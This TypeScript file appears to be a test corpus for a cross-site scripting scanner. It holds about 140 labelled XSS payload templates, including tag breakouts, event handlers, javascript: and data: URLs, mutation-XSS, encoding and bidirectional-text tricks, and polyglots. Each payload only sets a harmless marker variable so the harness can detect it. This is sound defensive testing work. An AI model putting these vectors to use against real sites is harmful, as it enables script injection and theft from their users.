// The XSS corpus: each payload is written as a function of a mark such as "xq017t" (payload 17
// in the title), and whatever it runs assigns that mark to `window.__xss`, so a trap that fires
// names the payload and the input it came through. A payload that reaches the page as an active
// element or attribute carries the mark in that element, so a DOM scan can name it too.

export interface Payload {
  /** "xq017" */
  id: string;
  label: string;
  make(mark: string): string;
}

/** The script every payload tries to run. */
const run = (mark: string) => `window.__xss='${mark}'`;

const b64 = (text: string) => Buffer.from(text).toString('base64');

type Maker = (mark: string, js: string) => string;

const CORPUS: [label: string, make: Maker][] = [
  // Script elements
  ['script tag', (_, js) => `<script>${js}</script>`],
  ['script tag, upper case', (_, js) => `<SCRIPT>${js}</SCRIPT>`],
  ['script with data: src', (_, js) => `<script src="data:,${js}"></script>`],
  ['script with slash attribute', (_, js) => `<script/x>${js}</script>`],
  ['script split by inner script', (_, js) => `<scr<script>ipt>${js}</scr</script>ipt>`],
  ['script doubled angle brackets', (_, js) => `<<script>${js}//<</script>`],
  ['unclosed script', (_, js) => `<script>${js}`],
  // Breakouts of the contexts a text lands in
  ['attribute breakout, double quote', (_, js) => `"><script>${js}</script>`],
  ['attribute breakout, single quote', (_, js) => `'><script>${js}</script>`],
  ['attribute breakout into handler', (_, js) => `" onmouseover="${js}" x="`],
  ['attribute breakout, single, handler', (_, js) => `' onfocus='${js}' autofocus x='`],
  ['title breakout', (_, js) => `</title><script>${js}</script>`],
  ['textarea breakout', (_, js) => `</textarea><script>${js}</script>`],
  ['script (JSON-LD) breakout', (_, js) => `</script><script>${js}</script>`],
  ['JSON string breakout', (m) => `"}]</script><script>window.__xss='${m}'</script>`],
  ['style breakout', (_, js) => `</style><script>${js}</script>`],
  ['comment breakout', (_, js) => `--><script>${js}</script>`],
  ['CDATA breakout', (_, js) => `]]><script>${js}</script>`],
  ['option breakout', (_, js) => `</option></select><img src=x onerror="${js}">`],
  ['noscript breakout', (_, js) => `</noscript><img src=x onerror="${js}">`],
  // Event handlers
  ['img onerror', (_, js) => `<img src=x onerror="${js}">`],
  ['IMG ONERROR upper case', (_, js) => `<IMG SRC=x ONERROR="${js}">`],
  ['img onerror unquoted', (m) => `<img src=x onerror=window.__xss='${m}'>`],
  ['img slashes for spaces', (_, js) => `<img/src="x"/onerror="${js}">`],
  ['img spaces around =', (_, js) => `<img src="x" onerror  =  "${js}">`],
  ['img handler entity-encoded', (m) => `<img src=x onerror="&#x77;indow.__xss='${m}'">`],
  ['img unclosed tag', (_, js) => `<img src=x onerror="${js}"`],
  ['img onload on a real picture', (_, js) => `<img src="https://example.org/a.png" onload="${js}">`],
  ['allowed link with handler', (_, js) => `<a href="https://example.org/" onmouseover="${js}">x</a>`],
  ['paragraph onclick', (_, js) => `<p onclick="${js}">x</p>`],
  ['body onload', (_, js) => `<body onload="${js}">`],
  ['svg onload', (_, js) => `<svg onload="${js}">`],
  ['svg/onload', (_, js) => `<svg/onload="${js}">`],
  ['svg script', (_, js) => `<svg><script>${js}</script></svg>`],
  ['svg script href data:', (_, js) => `<svg><script href="data:,${js}"/></svg>`],
  ['svg animate onbegin', (_, js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`],
  [
    'svg set href to javascript:',
    (_, js) => `<svg><a><set attributeName=href to="javascript:${js}"/><text y=9>x</text></a></svg>`,
  ],
  ['svg a xlink:href', (_, js) => `<svg><a xlink:href="javascript:${js}"><text y=9>x</text></a></svg>`],
  ['svg image onerror', (_, js) => `<svg><image href=x onerror="${js}"/></svg>`],
  ['details ontoggle', (_, js) => `<details open ontoggle="${js}">`],
  ['input autofocus onfocus', (_, js) => `<input autofocus onfocus="${js}">`],
  ['select autofocus onfocus', (_, js) => `<select autofocus onfocus="${js}"></select>`],
  ['textarea autofocus onfocus', (_, js) => `<textarea autofocus onfocus="${js}"></textarea>`],
  ['video source onerror', (_, js) => `<video><source onerror="${js}"></video>`],
  ['audio onerror', (_, js) => `<audio src=x onerror="${js}">`],
  ['marquee onstart', (_, js) => `<marquee onstart="${js}">x</marquee>`],
  ['div onmouseover', (_, js) => `<div onmouseover="${js}">x</div>`],
  ['keygen onfocus', (_, js) => `<keygen autofocus onfocus="${js}">`],
  ['handler name entity-split', (_, js) => `<img src=x o&#110;error="${js}">`],
  // javascript:, vbscript: and data: URLs
  ['javascript: as text', (_, js) => `javascript:${js}`],
  ['a href javascript:', (_, js) => `<a href="javascript:${js}">x</a>`],
  ['a href JaVaScRiPt:', (_, js) => `<a href="JaVaScRiPt:${js}">x</a>`],
  ['a href entity-encoded j', (_, js) => `<a href="&#106;avascript:${js}">x</a>`],
  ['a href hex entities', (_, js) => `<a href="&#x6A;&#x61;&#x76;&#x61;script&#x3A;${js}">x</a>`],
  ['a href java&#x09;script:', (_, js) => `<a href="java&#x09;script:${js}">x</a>`],
  ['a href java&#x0A;script:', (_, js) => `<a href="java&#x0A;script:${js}">x</a>`],
  ['a href java&#x0D;script:', (_, js) => `<a href="java&#x0D;script:${js}">x</a>`],
  ['a href control char first', (_, js) => `<a href=" &#14; javascript:${js}">x</a>`],
  ['a href newline in scheme', (_, js) => `<a href="java\nscript:${js}">x</a>`],
  ['a href &colon;', (_, js) => `<a href="javascript&colon;${js}">x</a>`],
  ['a href unquoted &#58;', (m) => `<a href=javascript&#58;window.__xss='${m}'>x</a>`],
  ['a href leading spaces', (_, js) => `<a href="   javascript:${js}">x</a>`],
  ['a href vbscript:', (m) => `<a href="vbscript:msgbox('${m}')">x</a>`],
  ['a href data:text/html', (_, js) => `<a href="data:text/html,<script>${js}</script>">x</a>`],
  [
    'a href data: base64',
    (m, js) => `<a id="${m}" href="data:text/html;base64,${b64(`<script>${js}</script>`)}">x</a>`,
  ],
  ['img src javascript:', (_, js) => `<img src="javascript:${js}">`],
  ['img srcset javascript:', (_, js) => `<img srcset="javascript:${js} 1x">`],
  ['img src data: svg', (m) => `<img src="data:image/svg+xml,<svg onload='window.__xss=&quot;${m}&quot;'>">`],
  ['form action javascript:', (_, js) => `<form action="javascript:${js}"><button>x</button></form>`],
  ['button formaction', (_, js) => `<button formaction="javascript:${js}">x</button>`],
  ['isindex action', (_, js) => `<isindex action="javascript:${js}" type=image>`],
  ['table background', (_, js) => `<table background="javascript:${js}"><tr><td>x</td></tr></table>`],
  ['blockquote cite', (_, js) => `<blockquote cite="javascript:${js}">x</blockquote>`],
  ['math href', (_, js) => `<math href="javascript:${js}"><mi>x</mi></math>`],
  ['video poster', (_, js) => `<video poster="javascript:${js}"></video>`],
  // Embedded documents and plug-ins
  ['iframe src javascript:', (_, js) => `<iframe src="javascript:${js}"></iframe>`],
  ['iframe srcdoc', (_, js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  [
    'iframe srcdoc entity-encoded',
    (_, js) => `<iframe srcdoc="&lt;img src=x onerror=&quot;${js}&quot;&gt;">`,
  ],
  ['iframe data:', (_, js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`],
  ['object data javascript:', (_, js) => `<object data="javascript:${js}"></object>`],
  ['object data: html', (_, js) => `<object data="data:text/html,<script>${js}</script>"></object>`],
  ['embed src javascript:', (_, js) => `<embed src="javascript:${js}">`],
  ['embed data: svg', (_, js) => `<embed src="data:image/svg+xml,<svg onload='${js}'/>">`],
  ['frameset onload', (_, js) => `<frameset onload="${js}"><frame src=x></frameset>`],
  ['applet', (m) => `<applet code="${m}.class"></applet>`],
  ['portal', (_, js) => `<portal src="javascript:${js}"></portal>`],
  // Page-wide elements
  ['base href elsewhere', (m) => `<base href="https://evil.example/${m}/">`],
  ['base href javascript:', (_, js) => `<base href="javascript:${js}//">`],
  ['meta refresh javascript:', (_, js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`],
  [
    'meta refresh data:',
    (_, js) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${js}</script>">`,
  ],
  ['meta set-cookie', (m) => `<meta http-equiv="set-cookie" content="${m}=1">`],
  ['link stylesheet javascript:', (_, js) => `<link rel=stylesheet href="javascript:${js}">`],
  // CSS
  ['style attribute expression()', (_, js) => `<p style="width:expression(${js})">x</p>`],
  ['style attribute url(javascript:)', (_, js) => `<div style="background:url('javascript:${js}')">x</div>`],
  ['style element import', (_, js) => `<style>@import 'javascript:${js}';</style>`],
  ['style element url()', (m) => `<style>body{background:url("javascript:window.__xss='${m}'")}</style>`],
  // Mutation XSS: markup that changes meaning when parsed a second time
  ['noscript title mXSS', (m) => `<noscript><p title="</noscript><img src=x onerror=window.__xss='${m}'>">`],
  ['svg style mXSS', (m) => `<svg></p><style><a id="</style><img src=1 onerror=window.__xss='${m}'>">`],
  ['math mglyph style mXSS', (_, js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`],
  [
    'form math mXSS',
    (_, js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js}">`,
  ],
  ['xmp title mXSS', (m) => `<xmp><p title="</xmp><img src=x onerror=window.__xss='${m}'>">`],
  ['noembed title mXSS', (m) => `<noembed><p title="</noembed><img src=x onerror=window.__xss='${m}'>">`],
  ['textarea title mXSS', (m) => `<textarea><p title="</textarea><img src=x onerror=window.__xss='${m}'>">`],
  ['title element mXSS', (m) => `<title><p title="</title><img src=x onerror=window.__xss='${m}'>">`],
  [
    'template shadow root',
    (_, js) => `<div><template shadowrootmode=open><img src=x onerror="${js}"></template></div>`,
  ],
  ['comment in attribute', (m) => `<!--<img src="--><img src=x onerror=window.__xss='${m}'//">`],
  // Templates and script-string contexts
  ['template expression', (m) => `{{constructor.constructor("window.__xss='${m}'")()}}`],
  ['template literal', (_, js) => `\${${js}}`],
  ['JS string breakout quote-minus', (_, js) => `'-${js}-'`],
  ['JS string breakout double', (_, js) => `";${js};//`],
  ['JS object breakout', (_, js) => `'};${js};//`],
  // Encodings
  ['percent-encoded script', (_, js) => `%3Cscript%3E${js}%3C/script%3E`],
  ['double percent-encoded', (_, js) => `%253Cscript%253E${js}%253C%252Fscript%253E`],
  ['HTML entities', (_, js) => `&lt;script&gt;${js}&lt;/script&gt;`],
  ['double HTML entities', (_, js) => `&amp;lt;img src=x onerror=&quot;${js}&quot;&amp;gt;`],
  ['JS hex escapes', (_, js) => `\\x3cscript\\x3e${js}\\x3c/script\\x3e`],
  ['JSON unicode escapes', (_, js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`],
  ['UTF-7', (_, js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`],
  ['meta charset UTF-7', (_, js) => `<meta charset="utf-7">+ADw-script+AD4-${js}+ADw-/script+AD4-`],
  ['overlong UTF-8 percent form', (_, js) => `%C0%BCscript%C0%BE${js}%C0%BC/script%C0%BE`],
  ['full-width angle brackets', (_, js) => `＜script＞${js}＜/script＞`],
  ['null byte in tag name', (_, js) => `<scr\0ipt>${js}</scr\0ipt>`],
  ['null byte before handler', (_, js) => `<img src=x\0 onerror="${js}">`],
  ['null byte in scheme', (_, js) => `<a href="java\0script:${js}">x</a>`],
  // Bidirectional controls (RTL override tricks)
  ['RLO before script tag', (_, js) => `\u202E<script>${js}</script>`],
  ['RLO inside tag name', (_, js) => `<\u202Escript>${js}</script>`],
  ['RLO reversed tag text', (_, js) => `\u202E>tpircs/<${js}>tpircs<`],
  ['RLO before javascript: in href', (_, js) => `<a href="\u202Ejavascript:${js}">x</a>`],
  ['RLO entity before javascript:', (_, js) => `<a href="&#8238;javascript:${js}">x</a>`],
  ['isolates around img', (_, js) => `\u2066<img src=x onerror="${js}">\u2069`],
  ['RLM then attribute breakout', (_, js) => `\u200F"><img src=x onerror="${js}">`],
  ['zero-width space in scheme', (_, js) => `<a href="java\u200Bscript:${js}">x</a>`],
  ['bidi text with javascript:', (_, js) => `\u202Bjavascript:${js}\u202C`],
  // Polyglots
  [
    'polyglot (Heiderich style)',
    (m) =>
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=window.__xss='${m}' )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__xss='${m}'//>\\x3e`,
  ],
  [
    'polyglot breaking every raw-text element',
    (_, js) => `--></title></style></textarea></script></xmp><svg/onload="${js}">`,
  ],
];

export const PAYLOADS: Payload[] = CORPUS.map(([label, make], i) => {
  const id = `xq${String(i + 1).padStart(3, '0')}`;
  return { id, label, make: (mark: string) => make(mark, run(mark)) };
});

/** Finds the marks ("xq017t") in a text. */
export const MARK = /xq\d{3}[a-z]+/g;

/** The payload and surface code a mark names. */
export function parseMark(mark: string): { id: string; surface: string } {
  return { id: mark.slice(0, 5), surface: mark.slice(5) };
}

/** The payloads whose text fits an input of `max` characters once made with this surface's mark. */
export function fitting(surface: string, max: number, refuse: RegExp | null = null): Payload[] {
  return PAYLOADS.filter((p) => {
    const text = p.make(`${p.id}${surface}`);
    return Array.from(text.trim()).length <= max && !refuse?.test(text);
  });
}
